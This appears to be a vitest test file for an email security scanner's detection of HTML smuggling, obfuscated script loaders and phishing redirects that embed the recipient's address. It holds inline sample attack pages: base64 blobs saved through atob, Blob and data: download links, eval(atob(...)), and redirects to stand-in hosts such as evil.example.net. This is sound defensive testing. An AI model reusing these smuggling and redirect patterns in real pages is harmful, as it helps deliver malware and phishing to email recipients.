import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import * as p from '../../../../test-fixtures/attachments/payloads.mjs';
import { decide } from '../../policy/engine.js';
import { loadPolicy } from '../../policy/loader.js';
import type { Policy } from '../../policy/types.js';
import { addr, makeContext, makeMessage, makePolicy } from '../test-helpers.js';
import { HTML_MAX_BYTES, inspectHtml } from './html.js';
import { base64Forms, longestRun, mentionsAddress, scriptObservations } from './html-script.js';
import { attachmentsScanner } from './index.js';
import { fakeClamd, fixtureVerdict, makeAttachment, zipAttachment } from './test-helpers.js';

const POLICY_DIR = fileURLToPath(new URL('../../../../policies', import.meta.url));
const RECIPIENT = 'nhan.vien@lachan.test';

/** The smuggling/loader observations of a page (with RECIPIENT as the message's recipient). */
function observe(html: string | Buffer, recipients = [RECIPIENT]) {
  const bytes = Buffer.isBuffer(html) ? html : Buffer.from(html);
  return scriptObservations(inspectHtml(bytes).scripts, () => mentionsAddress(bytes.toString('utf8'), recipients));
}
const kindsAndTags = (html: string | Buffer) => observe(html).map((o) => [o.kind, o.tags]);
const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
/** Deterministic bytes that look like a zip (a local file header, then noise). */
const zipLike = (n: number) => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.from(Array.from({ length: n }, (_, i) => (i * 131 + 7) & 0xff))]);

describe('HTML smuggling', () => {
  it('sees a page building a zip from base64 with atob, Blob, msSaveOrOpenBlob and a download link (the fixture builder)', async () => {
    const [o, ...rest] = observe(await p.makeSmugglingHtml());
    expect(rest).toEqual([]);
    expect(o).toMatchObject({ kind: 'attachment.html-smuggling', tags: ['blob', 'save-blob', 'object-url', 'download-link', 'embedded-payload', 'zip'] });
    expect(o!.detail).toMatch(/^HTML builds a file in the browser \(blob, save-blob, object-url, download-link\) from \d+ characters of base64 data it carries \(a zip file\)$/);
  });

  it('sees a download link to a data: address, with no script at all', () => {
    const page = `<html><body><a id="x" download="hoa-don.zip" href="data:application/zip;base64,${b64(zipLike(2000))}">Tải hóa đơn</a></body></html>`;
    expect(kindsAndTags(page)).toEqual([['attachment.html-smuggling', ['download-link', 'embedded-payload', 'zip']]]);
  });

  it('sees the payload kept in a hidden element, and a program in a frame', () => {
    const hidden = `<div id="d" style="display:none">${b64(Buffer.concat([Buffer.from('MZ'), zipLike(3000)]))}</div>
      <script>var b = new Blob([Uint8Array.from(atob(document.getElementById("d").textContent), c => c.charCodeAt(0))]);
      location.href = URL.createObjectURL(b);</script>`;
    expect(kindsAndTags(hidden)).toEqual([['attachment.html-smuggling', ['blob', 'object-url', 'embedded-payload', 'exe']]]);
    const frame = `<iframe src="data:application/octet-stream;base64,${b64(zipLike(2000))}"></iframe>`;
    expect(kindsAndTags(frame)).toEqual([['attachment.html-smuggling', ['embedded-file', 'embedded-payload', 'zip']]]);
  });

  it('reads a payload split into concatenated strings and lines, percent-encoded or in \\x escapes', () => {
    const chunks = b64(zipLike(1500)).match(/.{1,60}/g)!;
    const split = `<script>var z = "${chunks.join('" +\n "')}"; var f = new Blob([atob(z)]); navigator.msSaveBlob(f, "a.zip");</script>`;
    expect(kindsAndTags(split)).toEqual([['attachment.html-smuggling', ['blob', 'save-blob', 'embedded-payload', 'zip']]]);
    const pct = [...zipLike(800)].map((c) => `%${c.toString(16).padStart(2, '0')}`).join('');
    expect(observe(`<script>var f = new Blob([unescape("${pct}")]);</script>`)[0]).toMatchObject({ kind: 'attachment.html-smuggling', tags: ['blob', 'embedded-payload', 'zip'] });
    const esc = [...zipLike(800)].map((c) => `\\x${c.toString(16).padStart(2, '0')}`).join('');
    expect(observe(`<script>var f = new Blob(["${esc}"]);</script>`)[0]).toMatchObject({ kind: 'attachment.html-smuggling', tags: ['blob', 'embedded-payload', 'zip'] });
  });

  it('sees the same in an SVG (xlink:href), and gives no crash for a page cut anywhere', async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a download="x.zip" xlink:href="data:application/zip;base64,${b64(zipLike(2000))}"><text>Mở</text></a></svg>`;
    expect(kindsAndTags(svg)).toEqual([['attachment.html-smuggling', ['download-link', 'embedded-payload', 'zip']]]);
    const page = await p.makeSmugglingHtml();
    for (let cut = 0; cut < page.length; cut += 41) expect(() => observe(Buffer.from(page.subarray(0, cut)))).not.toThrow();
  });

  it('does not call an export button smuggling: a Blob built from the table, no payload carried', () => {
    const page = `<table id="t"><tr><td>1</td></tr></table><button onclick="xuat()">Xuất CSV</button>
      <script>function xuat() { var csv = [...document.querySelectorAll("td")].map(td => td.textContent).join(",");
      var a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([csv], { type: "text/csv" })); a.download = "bang.csv"; a.click(); }</script>`;
    expect(observe(page)).toEqual([]);
  });

  it('does not count a logo, a font or a chart carried as a data: picture (the report builder)', () => {
    expect(observe(p.makeReportHtml())).toEqual([]);
    expect(observe(`<img src="data:image/png;base64,${b64(zipLike(5000))}"><style>@font-face { src: url(data:font/woff2;base64,${b64(zipLike(5000))}) }</style>`)).toEqual([]);
  });
});

describe('obfuscated loaders and redirects', () => {
  it('sees decoded content written into the page or run', () => {
    const html = [...Buffer.from('<form action="https://x.example.net/p"><input type="password"></form>')].map((c) => `%${c.toString(16)}`).join('');
    expect(kindsAndTags(`<script>document.write(unescape("${html}"))</script>`)).toEqual([['attachment.html-loader', ['unescape', 'document-write', 'encoded-data', 'runs-decoded']]]);
    expect(kindsAndTags(`<script>eval(atob("${b64('alert(1)')}"))</script>`)).toEqual([['attachment.html-loader', ['atob', 'eval', 'runs-decoded']]]);
    // decoded into a variable first, then written: the encoded data in the script tells
    const page = b64(`<html><body><h1>Đăng nhập</h1>${'<p>x</p>'.repeat(40)}</body></html>`);
    expect(kindsAndTags(`<script>var s = "${page}"; var h = atob(s); document.write(h);</script>`)).toEqual([
      ['attachment.html-loader', ['atob', 'document-write', 'encoded-data', 'runs-decoded']],
    ]);
  });

  it('does not call ordinary decoding a loader: a query parameter shown on the page', () => {
    expect(observe(`<script>var q = decodeURIComponent(location.search.slice(1)); document.write("Mã hồ sơ: " + q);</script>`)).toEqual([]);
  });

  it('sees a remote redirect alone (warned), and with the recipient in base64 (obfuscated-redirect, the fixture builder)', () => {
    expect(kindsAndTags(`<script>window.location = "https://xem.example.net/tai-lieu";</script>`)).toEqual([['attachment.html-loader', ['remote-redirect']]]);
    const [o] = observe(p.makeRedirectHtml(RECIPIENT));
    expect(o).toEqual({
      kind: 'attachment.html-loader',
      detail: "HTML script redirects to tai-lieu.example.net; holds the recipient's address",
      tags: ['remote-redirect', 'recipient-address', 'obfuscated-redirect'],
      // the address to the closing quote, for the URL checks (walk-html.ts)
      urls: ['https://tai-lieu.example.net/owa/dang-nhap.php#'],
    });
    // the same page sent to someone else: only the redirect
    expect(observe(p.makeRedirectHtml(RECIPIENT), ['khac@lachan.test'])[0]!.tags).toEqual(['remote-redirect']);
  });

  it('sees a redirect to a decoded address, and a meta refresh carrying the recipient', () => {
    expect(kindsAndTags(`<script>location.replace(atob("${b64('https://evil.example.net/')}"))</script>`)).toEqual([
      ['attachment.html-loader', ['atob', 'decoded-redirect', 'obfuscated-redirect']],
    ]);
    const refresh = `<meta http-equiv="refresh" content="0; url=https://dang-nhap.example.net/?e=${encodeURIComponent(RECIPIENT)}">`;
    expect(kindsAndTags(refresh)).toEqual([['attachment.html-loader', ['remote-redirect', 'recipient-address', 'obfuscated-redirect']]]);
    // a local anchor is no redirect
    expect(observe(`<script>location.href = "#muc-2"; location.hash = "x";</script>`)).toEqual([]);
  });
});

describe("the recipient's address in the file", () => {
  it('is found as written, in capitals, %-encoded and in base64 at every alignment, standard or URL-safe', () => {
    expect(mentionsAddress(`value="${RECIPIENT}"`, [RECIPIENT])).toBe(true);
    expect(mentionsAddress(`value="${RECIPIENT.toUpperCase()}"`, [RECIPIENT])).toBe(true);
    expect(mentionsAddress(`?e=nhan.vien%40lachan.test`, [RECIPIENT])).toBe(true);
    for (const before of ['', 'a', 'ab', 'email=', '{"u":"']) {
      const encoded = b64(`${before}${RECIPIENT}&x=1`);
      expect(mentionsAddress(`#${encoded}`, [RECIPIENT]), before).toBe(true);
      expect(mentionsAddress(`#${encoded.replace(/\+/g, '-').replace(/\//g, '_')}`, [RECIPIENT]), before).toBe(true);
    }
    expect(mentionsAddress(`#${b64('someone.else@lachan.test')}`, [RECIPIENT])).toBe(false);
    expect(mentionsAddress('nothing here', ['', 'x', RECIPIENT])).toBe(false);
  });

  it('base64Forms gives only characters that depend on the address alone', () => {
    for (const k of [0, 1, 2]) {
      const forms = base64Forms('a@b.example');
      const enc = b64(`${'zz'.slice(0, k)}a@b.example`);
      expect(forms.some((f) => enc.includes(f))).toBe(true);
    }
  });
});

describe('bounded: 4 MB of adversarial script finishes fast', () => {
  const M = HTML_MAX_BYTES;
  const fill = (unit: string, pre = '<script>') => Buffer.from(pre + unit.repeat(Math.ceil(M / unit.length))).subarray(0, M);
  it.each([
    ['one base64 run', fill('A')],
    ['percent escapes', fill('%41')],
    ['\\x escapes that never end properly', fill('\\x4')],
    ['joins without a run', fill('="+"A')],
    // found by the fuzzer: '=' padding that ends in a character no run continues with (97 s for 14 KB before)
    ['long padding ending a run', fill('QUJDREVGR0hJSktMTU5PUA' + '='.repeat(60) + '!')],
    ['redirect prefixes', fill('location.href=')],
    ['decoders into sinks', fill('document.write(atob(')],
    ['spaces after sinks', fill('eval(' + ' '.repeat(200))],
    ['script tags', fill('<script>', '')],
    ['download links', fill('<a download href="data:', '')],
    ['event handlers', fill('<b onclick="atob(', '')],
  ])('%s', (_, bytes) => {
    const t = performance.now();
    const traits = inspectHtml(Buffer.from(bytes));
    scriptObservations(traits.scripts, () => mentionsAddress(bytes.toString('utf8'), [RECIPIENT, 'a@b.example']));
    longestRun(bytes.toString('latin1'));
    // ~0.3–0.5 s each alone here, up to 1.3 s with the whole suite running on both cores; what this
    // guards against is a blow-up (the fuzzer's padding case took 97 s for 14 KB before its fix)
    expect(performance.now() - t).toBeLessThan(3000);
  });
});

describe('the attachments scanner on HTML', () => {
  const scan = (data: Buffer, name = 'hoa-don.html', envelopeTo = ['staff@lachan.test']) => {
    const att = makeAttachment(name, data, { contentType: 'text/html', id: 'a1' });
    const message = makeMessage({ attachments: [att], to: [addr(RECIPIENT)] });
    return attachmentsScanner.scan(message, makeContext(makePolicy(), { clamd: fakeClamd(), envelope: { mailFrom: 'a@sender.example', rcptTo: envelopeTo } }));
  };

  it('reports smuggling beside the script finding, on the attachment', async () => {
    const fs = await scan(await p.makeSmugglingHtml());
    expect(fs.map((f) => [f.kind, f.attachment, f.subject])).toEqual([
      ['attachment.html-form', 'a1', 'hoa-don.html'],
      ['attachment.html-smuggling', 'a1', 'hoa-don.html'],
    ]);
  });

  it("takes the recipient from the envelope or from To/Cc", async () => {
    const page = p.makeRedirectHtml('staff@lachan.test');
    expect((await scan(page)).find((f) => f.kind === 'attachment.html-loader')!.tags).toContain('recipient-address');
    const other = p.makeRedirectHtml('ai.do@lachan.test');
    expect((await scan(other)).find((f) => f.kind === 'attachment.html-loader')!.tags).not.toContain('recipient-address');
    expect((await scan(p.makeRedirectHtml(RECIPIENT), 'x.htm', [])).find((f) => f.kind === 'attachment.html-loader')!.tags).toContain('recipient-address');
  });

  it('sees a smuggling page inside a zip', async () => {
    const zip = await p.makeZip({ 'hoa-don/xem.html': await p.makeSmugglingHtml() });
    const att = zipAttachment('hoa-don.zip', zip);
    const fs = await attachmentsScanner.scan(makeMessage({ attachments: [att] }), makeContext(makePolicy(), { clamd: fakeClamd() }));
    expect(fs.find((f) => f.kind === 'attachment.html-smuggling')?.subject).toBe('hoa-don.zip → hoa-don/xem.html');
  });
});

describe('HTML fixtures under the default policy', () => {
  let policy: Policy;
  beforeAll(async () => {
    policy = await loadPolicy(POLICY_DIR);
  });
  const verdictOf = (name: string) => fixtureVerdict(policy, name);

  it('html-smuggling-zip is quarantined as malware (html-smuggling)', async () => {
    const { verdict } = await verdictOf('html-smuggling-zip');
    expect(verdict.action).toBe('quarantine');
    expect(verdict.hits.map((h) => h.rule)).toEqual(['html-form-attachment', 'html-smuggling']);
    expect(verdict.categories).toContain('malware');
  });

  it('html-redirect-recipient is quarantined as phishing (html-obfuscated-loader)', async () => {
    const { verdict } = await verdictOf('html-redirect-recipient');
    expect(verdict.action).toBe('quarantine');
    expect(verdict.hits.map((h) => h.rule)).toEqual(['html-form-attachment', 'html-obfuscated-loader', 'html-remote-redirect']);
  });

  it('html-report-script gets what any page with a script gets, nothing more', async () => {
    const { findings, verdict } = await verdictOf('html-report-script');
    expect(findings.map((f) => [f.kind, f.tags])).toEqual([['attachment.html-form', ['script', 'event-handler']]]);
    expect(verdict.hits.map((h) => h.rule)).toEqual(['html-form-attachment']);
  });

  it('a lone remote redirect is warned about; with obfuscation, held', () => {
    const f = (tags: string[]) => [{ scanner: 'attachments' as const, kind: 'attachment.html-loader' as const, detail: 'x', attachment: 'a1', tags }];
    expect(decide(f(['remote-redirect']), policy)).toMatchObject({ action: 'deliver', warning: true });
    expect(decide(f(['atob', 'eval', 'runs-decoded']), policy).action).toBe('quarantine');
    expect(decide(f(['remote-redirect', 'recipient-address', 'obfuscated-redirect']), policy).action).toBe('quarantine');
    expect(decide([{ scanner: 'attachments', kind: 'attachment.html-smuggling', detail: 'x', attachment: 'a1', tags: ['blob'] }], policy).action).toBe('quarantine');
  });
});
